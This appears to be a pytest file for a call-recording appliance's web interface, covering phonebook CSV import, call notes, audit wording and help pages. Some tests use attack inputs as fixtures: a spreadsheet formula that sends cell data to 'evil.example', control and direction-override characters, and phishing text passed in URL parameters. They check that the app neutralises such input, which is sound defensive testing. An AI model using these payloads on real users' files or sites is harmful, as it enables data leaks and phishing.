    beeped = add_call(
        box, start, "01632960504", policy_decision="record",
        consent=json.dumps({"notice": "off", "given": False, "warning_tones": 4,
                            "warning_tone_interval_s": 15,
                            "warning_tone_first_at": iso_ms(start + 5 * S + 30_000)}),
    )  # fmt: skip
    items = _timeline_items(people["alice"], beeped)
    assert ("tone", "0:05.0 Warning tone, the only notice: first beep, then every 15 s") in items, items
    assert [k for k, _ in items] == ["ring", "answer", "tone", "end"]
    untold = add_call(
        box, start + 100 * S, "01632960505", policy_decision="skip",
        consent=json.dumps({"notice": "off", "given": False, "warning_tones": 0,
                            "warning_tone_interval_s": 15, "warning_tone_error": "no audio",
                            "warning_tone_failed_at": iso_ms(start + 100 * S + 5 * S + 30_000)}),
    )  # fmt: skip
    items = _timeline_items(people["alice"], untold)
    assert (
        "tone-failed",
        "0:05.0 First warning tone could not be played: it was the only notice, so nobody was told",
    ) in items, items
    assert "tone" not in [k for k, _ in items]
    reminded = add_call(
        box, start + 200 * S, "01632960506", policy_decision="record",
        consent=json.dumps({"notice": "announcement", "given": True, "at": iso_ms(start + 205 * S),
                            "duration_s": 7.0, "warning_tones": 3, "warning_tone_interval_s": 15,
                            "warning_tone_first_at": iso_ms(start + 220 * S)}),
    )  # fmt: skip
    items = _timeline_items(people["alice"], reminded)
    assert ("tone", "0:20.0 First warning tone (a reminder), then every 15 s") in items, items


def test_phonebook_csv_import_is_all_or_nothing_and_round_trips(box, people):
    sam = people["sam"]
    token = box.token_of(sam, "/phonebook")
    bad = "number,name\n01632960001,Alpha\nnot a number,Beta\n"
    resp = import_book(sam, token, bad)
    assert resp.status_code == 400 and "line 3" in resp.get_data(as_text=True)
    assert box.web.phonebook.count() == 0
    good = "number,name\n01632960001,Alpha\n+44 1632 960002,Beta\n"
    assert rows_of(imported_and_exported(sam, token, good)) == [
        ["number", "name"],
        ["+441632960001", "Alpha"],
        ["+441632960002", "Beta"],
    ]


def test_a_name_that_is_a_formula_leaves_the_box_as_text(box, people):
    """A caller ID or phonebook name such as =HYPERLINK(...) ran as a formula in the
    spreadsheet that opened calls.csv or phonebook.csv. It now leaves with a leading
    apostrophe (text to a spreadsheet), numbers as they were; a phonebook export
    imports back as it was."""
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    call = add_call(box, T0_US + 3000 * S, "01632960500", name="@SUM(1+1)")
    sam, token = people["sam"], box.token_of(people["sam"], "/phonebook")
    book = "number,name\n01632960500,%s\n+44 1632 960002,-2+3\n" % csv_line(formula)
    out = imported_and_exported(sam, token, book)
    assert rows_of(out) == [
        ["number", "name"],
        ["+441632960002", "'-2+3"],
        ["+441632960500", "'" + formula],
    ]
    listed = people["alice"].get("/calls.csv").get_data(as_text=True)
    (row,) = [r for r in csv.DictReader(io.StringIO(listed)) if r["id"] == str(call)]
    assert row["number"] == "01632960500"
    assert (row["caller_id_name"], row["phonebook_name"]) == ("'@SUM(1+1)", "'" + formula)
    assert imported_and_exported(sam, token, out) == out


@pytest.mark.parametrize(
    "rows, message",
    [
        (
            "01632960785,First\n+44 1632 960785,Second\n",
            "line 4: the number +441632960785 is on line 3 already",
        ),
        ("01632960785,Evil\x1b[31mRed\n", "line 3: in the name, remove the control character U+001B"),
        ("01632960785,Acme\u202eeciovni\n", "line 3: in the name, remove the direction control U+202E"),
        ("0163296\u00b2785,Acme\n", "is not a phone number"),
        ("01632960785,%s\n" % ("x" * 140_000), "the file is not CSV the box can read"),
    ],
)
def test_a_phonebook_file_with_a_bad_row_is_refused_whole_and_says_which(box, people, rows, message):
    sam = people["sam"]
    token = box.token_of(sam, "/phonebook")
    book = ("number,name\n01632960001,Alpha\n" + rows).encode()
    resp = import_book(sam, token, book)
    assert resp.status_code == 400 and message in resp.get_data(as_text=True)
    assert box.web.phonebook.count() == 0


def import_book(client, token, text):
    """Post ``text`` (str or bytes) as a phonebook CSV file to import."""
    data = text.encode() if isinstance(text, str) else text
    return client.post("/phonebook/import", data={"csrf_token": token, "file": (io.BytesIO(data), "pb.csv")})


def imported_and_exported(client, token, text):
    """Import ``text`` as the phonebook (it must be taken), then its export as text."""
    assert import_book(client, token, text).status_code == 302
    return client.get("/phonebook/phonebook.csv").get_data(as_text=True)


def rows_of(text):
    return list(csv.reader(io.StringIO(text)))


def csv_line(text):
    buf = io.StringIO()
    csv.writer(buf, lineterminator="").writerow([text])
    return buf.getvalue()


def test_tags_and_notes_by_a_supervisor_of_the_line_audited(box, people):
    sam, sue = people["sam"], people["sue"]
    resp = box.post(sam, "/calls/1/tags", {"add": "complaint"}, token_from="/calls/1")
    assert resp.status_code == 302
    resp = box.post(
        sam, "/calls/1/notes", {"note": "Customer rang back about the order."}, token_from="/calls/1"
    )
    assert resp.status_code == 302
    html = page(sam, "/calls/1")
    assert re.search(r'<span class="tag">complaint', html)
    assert "Customer rang back about the order." in html
    assert "Tagged or annotated a call" in html  # the call's own history
    assert box.audit_actions()[-2:] == ["call_note", "call_note"]
    # A tag the call has already: nothing changes, and the trail gets no second entry.
    n = len(box.audit_actions())
    assert box.post(sam, "/calls/1/tags", {"add": "complaint"}, token_from="/calls/1").status_code == 302
    assert len(box.audit_actions()) == n
    assert box.post(sue, "/calls/1/tags", {"add": "x"}, token_from="/calls/3").status_code == 404
    bad = box.post(sam, "/calls/1/tags", {"add": "Not A Tag!"}, token_from="/calls/1")
    assert bad.status_code == 400 and "A tag is 1 to 32" in bad.get_data(as_text=True)
    assert 'value="Not A Tag!"' in bad.get_data(as_text=True)  # what was typed, to mend
    resp = box.post(sam, "/calls/1/tags", {"remove": "complaint"}, token_from="/calls/1")
    assert (
        resp.status_code == 302
        and "complaint" not in page(sam, "/calls/1").split('id="tag-list"')[1].split("</div>")[0]
    )


@pytest.mark.parametrize(
    "note, said",
    [
        ("refund \u202e77 fer", "Remove the direction control U+202E (character 8)"),
        ("order\x00 cancelled", "Remove the control character U+0000 (character 6)"),
    ],
)
def test_a_note_that_would_show_in_another_order_or_cut_is_refused(box, people, note, said):
    """A note took a right-to-left override (shown on the call's page and in the audit trail
    in another order than written) and a NUL, which a reason for the same call (a legal
    hold's, an export's) refuses: refused the same way, with nothing kept or audited."""
    sam = people["sam"]
    sam.get("/calls/1")  # its first view in this login is audited (call_viewed), not the form
    n = len(box.audit_actions())
    resp = box.post(sam, "/calls/1/notes", {"note": note}, token_from="/calls/1")
    assert resp.status_code == 400 and said in resp.get_data(as_text=True)
    assert box.web.notes.of_call(1) == [] and len(box.audit_actions()) == n


@pytest.mark.parametrize(
    "note, said",
    [
        ("Rang back <about> the order & the refund. " * 25, "A note is at most 1000 characters."),
        ("lkp1: rang back", "A note cannot start with"),
        ("refund \u202e77 fer", "Remove the direction control U+202E (character 8)"),
    ],
)
def test_a_refused_note_is_given_back_in_its_field(box, people, note, said):
    """A refused note came back with an empty field: the text typed was lost with it."""
    sam = people["sam"]
    resp = box.post(sam, "/calls/1/notes", {"note": note}, token_from="/calls/1")
    text = resp.get_data(as_text=True)
    assert resp.status_code == 400 and said in html.unescape(text)
    field = re.search(r'<textarea id="note" name="note"[^>]*>(.*?)</textarea>', text, re.S)
    assert field and html.unescape(field.group(1)) == note
    assert box.web.notes.of_call(1) == []


def test_a_note_refused_for_a_card_number_is_not_given_back(box, people):
    """The card number is on no page: its field stays empty, and the page says why."""
    sam = people["sam"]
    form = {"note": "paid by card 4111 1111 1111 1111 ok"}
    resp = box.post(sam, "/calls/1/notes", form, token_from="/calls/1")
    text = resp.get_data(as_text=True)
    assert resp.status_code == 400 and "4111" not in text
    assert re.search(r'<textarea id="note" name="note"[^>]*></textarea>', text)
    assert "Take out the card number (characters 14 to 32)" in text
    assert "The note is not shown again here, so that the card number is on no page: write it again" in text


def test_a_note_sent_twice_is_added_once(box, people):
    """A double click on Add note put the same note on the call twice, audited twice, as a
    tag sent twice does not. The second is refused beside the note, naming the first; the
    same words later, or by someone else, are a note of their own."""
    sam = people["sam"]
    form = {"note": "Customer rang back about the order."}
    assert box.post(sam, "/calls/1/notes", dict(form), token_from="/calls/1").status_code == 302
    n = len(box.audit_actions())
    again = box.post(sam, "/calls/1/notes", dict(form), token_from="/calls/1")
    text = again.get_data(as_text=True)
    assert again.status_code == 409 and 'id="error-note"' in text and "added already" in text
    assert [x["note"] for x in box.web.notes.of_call(1)] == [form["note"]]
    assert len(box.audit_actions()) == n
    box.clock.advance(15 * 60)  # a quarter of an hour on: rang back again
    assert box.post(sam, "/calls/1/notes", dict(form), token_from="/calls/1").status_code == 302
    assert len(box.web.notes.of_call(1)) == 2


# ---------------------------------------------------------------- help


@pytest.mark.parametrize("name", ["alice", "ivan", "sam", "audrey"])
def test_every_screen_in_the_menu_has_its_help(box, people, name):
    client = people[name]
    menu = re.search(r'<nav aria-label="Main menu".*?</nav>', page(client, "/"), re.S).group(0)
    links = re.findall(r'<a href="([^"]+)"', menu)
    assert "/help" in links and len(links) >= 3
    for url in links:
        html = page(client, url)
        assert 'aria-current="page"' in re.search(r'<nav aria-label="Main menu".*?</nav>', html, re.S).group(
            0
        ), url
        if url == "/help":
            continue
        m = re.search(r'href="([^"]+)" id="page-help"', html)
        assert m, "no help link on %s" % url
        text = page(client, m.group(1))
        assert 'id="help-text"' in text and len(re.sub(r"<[^>]+>", "", text)) > 600, url


def test_skip_link_and_no_cdn(box, people):
    html = page(people["alice"], "/")
    assert '<a class="skip" href="#main">' in html and '<main id="main"' in html
    for url in re.findall(r'(?:src|href)="([^"]+)"', html):
        assert not url.startswith(("http:", "https:", "//")), url


def test_retention_categories_and_lines_are_picked_from_lists(box, people):
    CallMeta(box.data_dir + "/calls.db").add_tags(5, ["regulated"])
    html = page(people["ivan"], "/retention")
    category = re.search(r'<select id="rule-0-category".*?</select>', html, re.S).group(0)
    assert '<option value="regulated"' in category
    line = re.search(r'<select id="rule-0-line".*?</select>', html, re.S).group(0)
    assert re.findall(r'<option value="(\d)"', line) == ["1", "2", "3", "4"]


def test_audit_details_in_words():
    fields = words.audit_fields({"line": 1, "via": "dtmf", "on": True, "roles": ["a", "b"]})
    assert fields == [("Line", "1"), ("How", "the keypad code"), ("Hold on", "yes"), ("Roles", "a, b")]
    # An export's format in the export form's words; a report's as it is.
    assert words.audit_fields({"format": "wav.zip"}) == [("Format", "WAV with signed manifest (.zip)")]
    assert words.audit_fields({"format": "pdf"}) == [("Format", "pdf")]
    # A legal hold's entry says in its words which was done and why, not among its details.
    hold = {"line": 2, "on": False, "reason": "complaint 1234 closed"}
    assert words.audit_action("legal_hold", hold) == "Released from legal hold: complaint 1234 closed"
    assert words.audit_fields(hold, "legal_hold") == [("Line", "2")]
    assert words.audit_action("legal_hold", {"on": True}) == "Placed on legal hold"  # before reasons
    # One a cut stopped says so in its details, under the action's own words.
    not_made = {"change_id": "ab12", "not_made": "the box stopped before the change was made"}
    assert words.audit_action("legal_hold", not_made) == "Legal hold"
    assert [label for label, _ in words.audit_fields(not_made, "legal_hold")] == ["Change number", "Not made"]


def test_the_dashboard_names_a_caller_from_the_phonebook(box, people):
    sam = people["sam"]
    box.post(sam, "/phonebook", {"number": "+44 1632 960777", "name": "Acme Ltd"}, token_from="/phonebook")
    box.status.set(1, "ringing", {"direction": "in", "number": "01632960777", "name": "J SMITH"})
    row = re.search(r'<tr id="line-1".*?</tr>', page(sam, "/"), re.S).group(0)
    assert "01632960777 J SMITH (Acme Ltd, phonebook)" in row


def test_the_wizard_sets_the_zone_and_refuses_an_unknown_one(box):
    client = box.client()
    # Not in the list: unknown, the machine's own (UTC on a box), or not an office's time.
    for zone in ("Mars/Olympus", "localtime", "posix/Europe/London", "Etc/GMT+5"):
        form = box.setup_form(time_zone=zone)
        form["csrf_token"] = box.token_of(client, "/setup")
        resp = client.post("/setup", data=form)
        assert resp.status_code == 400 and "Choose the time zone from the list" in resp.get_data(as_text=True)
        assert not box.web.site.setup_complete, zone
    form.update(time_zone="Europe/Dublin")
    assert client.post("/setup", data=form).status_code == 302
    assert box.web.site.settings().time_zone == "Europe/Dublin"
    # Settings saved before time zones existed read as the default.
    from web.site import SiteSettings

    old = json.loads(box.web.site.settings().to_json())
    del old["time_zone"]
    assert SiteSettings.from_json(json.dumps(old)).time_zone == "Europe/London"


def test_the_training_guide_follows_the_demo_scenario(box):
    """The guided session's calls are the demo's: it must change when the demo does."""
    from board.sim.scenario import load_scenario

    demo = load_scenario("demo")
    html = page(box.client(), "/help/training")
    first = demo.calls[0]
    assert first.line == 1 and first.caller_id.number == "01632960123"
    assert "orders" in first.tags
    long_call = [c for c in demo.calls if c.line == 3 and c.direction == "in" and (c.talk_s or 0) >= 60]
    assert long_call and long_call[0].caller_id.number == "07700900123"
    assert long_call[0].at_s == 120.0
    assert "line 3 takes a long call (90 seconds) from 07700 900123" in html
    assert "+44 1632 960123" in html


def test_a_link_cannot_put_its_own_words_in_the_pages_notices(box, people):
    """?done=, ?removed= and ?uploaded= were shown in the box's own notice boxes, whatever
    they said ("Your session expired, call 0800 123 456"): phishing in the box's voice."""
    said = "call 0800 123 456 to re-activate"
    for who, path in (
        ("sam", "/phonebook?done=deleted. " + said),
        ("alice", "/users?removed=Ask IT: " + said),
        ("ivan", "/updates?uploaded=evil.raucb (verified by vendor, " + said + ")"),
    ):
        text = people[who].get(path).get_data(as_text=True)
        assert "0800 123 456" not in text, path
    assert "Done: saved." in people["sam"].get("/phonebook?done=saved").get_data(as_text=True)
    shown = people["ivan"].get("/updates?uploaded=uploaded-0123456789abcdef.raucb").get_data(as_text=True)
    assert "Uploaded uploaded-0123456789abcdef.raucb" in shown
    assert 'id="rekey-advised"' in people["alice"].get("/users?removed=gone.user").get_data(as_text=True)
    assert 'id="rekey-advised"' not in people["alice"].get("/users?removed=sam").get_data(as_text=True)


def test_a_pause_from_the_web_page_names_who_paused_and_resumed(box, people):
    """The call page's pauses said "paused by the web page", where the history below named
    the person: now the name is said there too, where the trail has it."""
    start = T0_US + 3700 * S
    spans = [
        # Its edges a few ms after the entries: the capture period the pause took effect at.
        {"from": iso_ms(start + 20 * S + 15_000), "to": iso_ms(start + 30 * S + 12_000), "by": "web",
         "ended_by": "web"},
        {"from": iso_ms(start + 40 * S), "to": iso_ms(start + 42 * S), "by": "dtmf", "ended_by": "web"},
        {"from": iso_ms(start + 50 * S), "to": None, "by": "web", "ended_by": None},
    ]  # fmt: skip
    call_id = add_call(box, start, "01632960790", policy_decision="record", pause_spans=json.dumps(spans))
    audit = box.services.audit
    audit.append("sam", "pause", "call:%d" % call_id, {"line": 1, "via": "web"}, start + 20 * S)
    audit.append("alice", "resume", "call:%d" % call_id, {"line": 1, "via": "web"}, start + 30 * S)
    audit.append("sam", "resume", "call:%d" % call_id, {"line": 1, "via": "web"}, start + 42 * S)
    page = people["sam"].get("/calls/%d" % call_id).get_data(as_text=True)
    said = [
        html.unescape(re.sub(r"<[^>]+>", "", s))
        for s in re.findall(r'<li class="pause-span">(.*?)</li>', page)
    ]
    assert said[0].endswith(", paused by sam on the web page, resumed by alice on the web page")
    assert said[1].endswith(", paused by the keypad code, resumed by sam on the web page")
    # No entry of it (a trail that could not take it): the page says what it knows; a pause
    # not ended says no "resumed by" with nobody after it.
    assert said[2].endswith("to the end, paused by the web page")
